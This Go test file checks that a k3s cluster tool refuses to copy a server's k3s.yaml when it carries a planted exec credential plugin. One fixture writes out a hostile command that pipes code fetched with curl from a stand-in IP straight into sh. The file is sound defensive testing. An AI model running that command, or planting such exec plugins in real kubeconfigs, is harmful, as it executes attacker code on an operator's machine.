package steps

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/k3sup-pi/k3sup-pi/internal/fleet"
	"github.com/k3sup-pi/k3sup-pi/internal/hostpath"
	"github.com/k3sup-pi/k3sup-pi/internal/inventory"
	"github.com/k3sup-pi/k3sup-pi/internal/kubeconfig/kctest"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/client-go/tools/clientcmd/api"
)

// plantedK3sYAML is the k3s.yaml of a compromised server: an exec plugin
// that would run a program on the operator's machine.
func plantedK3sYAML(t *testing.T) []byte {
	c := kctest.NewPKI(t).Config()
	c.AuthInfos["default"].Exec = &api.ExecConfig{APIVersion: "client.authentication.k8s.io/v1", Command: "sh",
		Args: []string{"-c", "curl -s http://203.0.113.9/x | sh"}}
	return kctest.YAML(t, c)
}

const plantedMsg = `k3s.yaml on s1 has an exec credential plugin (users["default"].user.exec); k3s never writes one — refusing to copy it to your kubeconfig`

// TestFetchKubeconfigRefusesPlantedExec: the `kubeconfig` command's fetch
// refuses a k3s.yaml with an exec plugin, and does not fall back to the next
// server; a clean k3s.yaml comes out with the inventory's names.
func TestFetchKubeconfigRefusesPlantedExec(t *testing.T) {
	p := kctest.NewPKI(t)
	tests := []struct {
		name    string
		first   []byte
		wantErr string
	}{
		{"planted exec", plantedK3sYAML(t), plantedMsg},
		{"as k3s writes it", kctest.YAML(t, p.Config()), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newTestFleet(t, "", "s1", "s2", "s3")
			f.Host("s1").SetFile(hostpath.K3sYAML, tt.first)
			f.Host("s2").SetFile(hostpath.K3sYAML, kctest.YAML(t, p.Config()))
			var dialed []string
			dial := func(ctx context.Context, h inventory.Host) (fleet.Conn, error) {
				dialed = append(dialed, h.Name())
				return f.Dial(ctx, h.Address)
			}
			out, err := FetchKubeconfig(context.Background(), f.inventory(), dial, "pi-lab")
			if tt.wantErr != "" {
				if err == nil || err.Error() != tt.wantErr {
					t.Fatalf("error = %v\nwant      %s", err, tt.wantErr)
				}
				if out != nil || len(dialed) != 1 {
					t.Errorf("output %q, dialed %v: want nothing and only s1", out, dialed)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			c, err := clientcmd.Load(out)
			if err != nil || c.CurrentContext != "pi-lab" || c.Clusters["pi-lab"].Server != "https://s1:6443" {
				t.Errorf("kubeconfig %s (%v)", out, err)
			}
		})
	}
}

// TestUpWriteKubeconfigRefusesPlantedExec: `up`'s kubeconfig write refuses
// the planted k3s.yaml and leaves the operator's file as it was.
func TestUpWriteKubeconfigRefusesPlantedExec(t *testing.T) {
	path := filepath.Join(t.TempDir(), "kubeconfig")
	before := []byte("# the operator's own\n")
	if err := os.WriteFile(path, before, 0o600); err != nil {
		t.Fatal(err)
	}
	f := newTestFleet(t, "  kubeconfig: "+path+"\n", "s1")
	f.Host("s1").SetFile(hostpath.K3sYAML, plantedK3sYAML(t))
	err := f.upErr(Options{WriteKubeconfig: true}, "")
	if want := "kubeconfig: " + plantedMsg; err == nil || err.Error() != want {
		t.Fatalf("error = %v\nwant      %s", err, want)
	}
	after, _ := os.ReadFile(path)
	if !bytes.Equal(after, before) {
		t.Errorf("kubeconfig written despite the refusal:\n%s", after)
	}
	if m, _ := filepath.Glob(path + ".bak-*"); len(m) != 0 {
		t.Errorf("backups made: %v", m)
	}
	if strings.Contains(string(after), "203.0.113.9") {
		t.Error("planted command reached the kubeconfig")
	}
}
